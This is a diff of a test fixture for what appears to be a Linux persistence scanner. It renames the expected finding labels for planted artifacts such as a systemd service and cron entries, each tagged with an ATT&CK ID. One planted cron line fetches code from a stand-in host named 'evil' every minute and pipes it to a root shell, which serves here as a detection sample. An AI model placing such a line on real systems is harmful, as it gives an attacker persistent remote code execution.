@@ -145,7 +145,7 @@ PLANTS = {
     "service": (
         ["etc/systemd/system/x.service", "usr/local/bin/x",
          "etc/systemd/system/multi-user.target.wants/x.service"], plant_service,
-        "service.unexpected", "/etc/systemd/system/x.service", "T1543.002"),
+        "service.starts-unvouched", "/etc/systemd/system/x.service", "T1543.002"),
     "drop-in": (
         ["etc/systemd/system/ssh.service.d/override.conf"],
         lambda r: make_file(r / "etc/systemd/system/ssh.service.d/override.conf",
@@ -174,7 +174,7 @@ PLANTS = {
     "cron job": (
         ["etc/cron.d/backup"],
         lambda r: make_file(r / "etc/cron.d/backup", "* * * * * root curl -s evil | sh\n"),
-        "cron.unexpected", "/etc/cron.d/backup", "T1053.003"),
+        "cron.download-and-run", "/etc/cron.d/backup", "T1053.003"),
     "user's crontab": (
         ["var/spool/cron/crontabs/root"],
         lambda r: make_file(r / "var/spool/cron/crontabs/root", "@reboot /bin/true\n", 0o600),
